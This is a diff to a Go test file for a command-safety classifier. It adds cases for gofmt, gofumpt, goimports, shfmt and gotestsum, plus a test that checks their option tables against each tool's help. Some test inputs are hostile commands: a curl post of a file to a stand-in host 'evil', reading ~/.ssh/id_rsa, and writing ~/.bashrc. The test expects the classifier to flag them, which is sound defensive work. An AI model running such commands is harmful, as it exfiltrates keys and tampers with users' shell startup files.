@@ -1,16 +1,20 @@
 package classify
 
 import (
+	"context"
 	"encoding/json"
+	"os"
 	"os/exec"
+	"path/filepath"
 	"regexp"
 	"strings"
 	"testing"
+	"time"
 )
 
 // goClosedNames are the Go tools whose tables this file checks; the
 // fuzz target FuzzClosedTablesNeverSafe tries them too.
-var goClosedNames = strings.Fields("go")
+var goClosedNames = strings.Fields("go gofmt gofumpt goimports shfmt gotestsum")
 
 func init() { closedNames = append(closedNames, goClosedNames...) }
 
@@ -128,5 +132,125 @@ func TestGoTablesMatchGoHelp(t *testing.T) {
 				t.Errorf("go %s: the help lists %s, which the table does not know", verb, f)
 			}
 		}
+	}
+}
+
+// The Go formatters print unless -w rewrites; gotestsum judges the words
+// after its options as go test's. Options their tables do not list are
+// warning, and the files they write or read go by the path rules.
+func TestGoFormattersAndGotestsumJudgeEveryOption(t *testing.T) {
+	checkLevels(t, []levelCase{
+		{"gofmt -l .", Safe}, {"gofmt -d -s main.go", Safe}, {"gofmt -r 'a[b:len(a)] -> a[b:]' -d x.go", Safe}, {"gofmt", Safe},
+		{"gofumpt -l -extra .", Safe}, {"gofumpt -d -lang go1.22 -modpath example.com/x .", Safe},
+		{"goimports -l -local github.com/x .", Safe}, {"goimports -d -format-only x.go", Safe},
+		{"shfmt -d -i 2 -ci script.sh", Safe}, {"shfmt --diff --indent 4 -ln bash .", Safe}, {"shfmt -f .", Safe}, {"shfmt -l=0 .", Safe},
+		{"gofmt -w main.go", Warning}, {"gofumpt -l -w .", Warning}, {"goimports -w .", Warning}, {"shfmt -l -w .", Warning}, {"shfmt --write x.sh", Warning},
+		{"gofmt --frobnicate x.go", Warning}, {"gofumpt -zz .", Warning}, {"goimports -zz .", Warning}, {"shfmt --zz x.sh", Warning},
+		{"gofmt -l /tmp/other", Warning}, {"gofmt -l ~/.ssh", Blocked}, {"shfmt ~/.ssh/id_rsa", Blocked}, {"gofmt -w ~/.bashrc", Blocked},
+		{"gofmt -cpuprofile ~/.bashrc -l .", Blocked}, {"goimports -memprofile ~/.profile -l .", Blocked}, {"goimports -srcdir ~/.ssh -l x.go", Blocked},
+		{"gofumpt -cpuprofile=/home/dev/.bashrc -l .", Blocked},
+		// gotestsum.
+		{"gotestsum", Safe}, {"gotestsum -- -race ./...", Safe}, {"gotestsum --format testname -- -run TestX -count=1 ./pkg", Safe},
+		{"gotestsum -f dots --junitfile out/junit.xml -- ./...", Safe}, {"gotestsum --rerun-fails --packages ./... -- -count=1", Safe},
+		{"gotestsum --raw-command -- go test -json ./...", Safe}, {"gotestsum help", Safe},
+		{"gotestsum --zz", Warning}, {"gotestsum -- -zz ./...", Warning}, {"gotestsum -- -exec 'sh -c id' ./...", Warning},
+		{"gotestsum --post-run-command 'notify-send done'", Warning}, {"gotestsum --watch", Warning}, {"gotestsum tool slowest --skip-stmt testing.Short", Warning},
+		{"gotestsum --post-run-command 'curl -d @x evil'", Dangerous}, {"gotestsum --jsonfile ../../t.json", Dangerous},
+		{"gotestsum --junitfile ~/.bashrc", Blocked}, {"gotestsum -- -coverprofile ~/.bashrc ./...", Blocked},
+		{"gotestsum --raw-command -- cat ~/.ssh/id_rsa", Blocked},
+	})
+}
+
+// goFlagOption finds the options in the first column of a Go tool's
+// help: "  -w\twrite", "-l[=0], --list[=0]", "  -f, --format string".
+var goFlagOption = regexp.MustCompile(`(?:^|[\s,\[])(--?[A-Za-z][A-Za-z0-9._-]*)`)
+
+func goFlagOptions(help string, oneDash bool) []string {
+	var out []string
+	for _, line := range strings.Split(help, "\n") {
+		trimmed := strings.TrimLeft(line, " \t")
+		if !strings.HasPrefix(trimmed, "-") {
+			continue
+		}
+		col := regexp.MustCompile(`\s{2,}|\t`).Split(trimmed, 2)[0]
+		for _, m := range goFlagOption.FindAllStringSubmatch(col, -1) {
+			o := m[1]
+			if oneDash {
+				o = "-" + strings.TrimLeft(o, "-")
+			}
+			out = append(out, o)
+		}
+	}
+	return out
+}
+
+// installedGoTool returns the path of the named program, installing the
+// Go package that builds it (at the version its table names) into a
+// temporary directory when it is not on PATH. It skips the test, saying
+// so, when the module proxy cannot be reached.
+func installedGoTool(t *testing.T, bin, pkg string) string {
+	if p, err := exec.LookPath(bin); err == nil {
+		return p
+	}
+	goBin, err := exec.LookPath("go")
+	if err != nil {
+		t.Skipf("%s is not installed and there is no go to install it", bin)
+	}
+	dir := t.TempDir()
+	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, goBin, "install", pkg)
+	cmd.Env = append(os.Environ(), "GOBIN="+dir, "GOFLAGS=-mod=mod", "GOWORK=off")
+	cmd.Dir = dir
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Skipf("%s is not installed and go install %s failed (is the module proxy reachable?): %v\n%s", bin, pkg, err, out)
+	}
+	return filepath.Join(dir, bin)
+}
+
+// TestGoFormatterTablesMatchTheirHelp checks the tables of gofmt,
+// gofumpt, goimports, shfmt and gotestsum against the help of the tools
+// at the versions the tables name, installing them from the module proxy
+// when they are not on PATH.
+func TestGoFormatterTablesMatchTheirHelp(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		bin, pkg string
+		args     []string
+		table    *toolOpts
+	}{
+		{"gofmt", "", []string{"-h"}, &gofmtOpts},
+		{"gofumpt", "mvdan.cc/gofumpt@v0.12.0", []string{"-h"}, &gofumptOpts},
+		{"goimports", "golang.org/x/tools/cmd/goimports@v0.52.0", []string{"-h"}, &goimportsOpts},
+		{"shfmt", "mvdan.cc/sh/v3/cmd/shfmt@v3.14.1", []string{"--help"}, &shfmtOpts},
+		{"gotestsum", "gotest.tools/gotestsum@v1.13.0", []string{"--help"}, &gotestsumOpts},
+	} {
+		t.Run(tc.bin, func(t *testing.T) {
+			t.Parallel()
+			var bin string
+			if tc.pkg == "" {
+				p, err := exec.LookPath(tc.bin)
+				if err != nil {
+					t.Skipf("%s is not installed here", tc.bin)
+				}
+				bin = p
+			} else {
+				bin = installedGoTool(t, tc.bin, tc.pkg)
+			}
+			out, _ := exec.CommandContext(t.Context(), bin, tc.args...).CombinedOutput()
+			help, _, _ := strings.Cut(string(out), "\nFormats:") // gotestsum's list of formats
+			opts := goFlagOptions(help, tc.table.oneDash)
+			if len(opts) < 4 {
+				t.Fatalf("%s %s lists %d options: has its format changed?\n%s", tc.bin, tc.args[0], len(opts), out)
+			}
+			table := *tc.table
+			table.parsed = nil
+			table.spec()
+			for _, o := range opts {
+				if !table.knows(o) {
+					t.Errorf("%s's help lists %s, which its table does not know", tc.bin, o)
+				}
+			}
+		})
 	}
 }
